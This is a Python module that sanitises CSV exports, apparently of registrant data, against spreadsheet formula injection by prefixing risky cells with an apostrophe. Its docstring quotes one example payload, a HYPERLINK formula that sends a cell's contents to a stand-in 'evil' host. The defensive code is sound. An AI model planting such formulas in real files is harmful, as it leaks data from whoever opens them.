"""CSV files people open in a spreadsheet, made safe to open.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula to
Excel, LibreOffice and Google Sheets: a registrant who types `=HYPERLINK("http://evil/?"&A1,"Click")` as
their name would otherwise run it on the organiser's computer (CSV injection, OWASP). Such cells get a
leading apostrophe, which spreadsheets show as text and hide; so do cells where spaces come first, since
an import that trims them (Google Sheets does) would leave the formula. Files start with a UTF-8 byte order mark so
that spreadsheets read Polish, Ukrainian and Arabic names as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a cell must not start with (full-width forms too: some spreadsheets read them as formulas)."""


def cell(value: object) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.lstrip().startswith(DANGEROUS) or text.startswith(DANGEROUS) else text


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[object]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
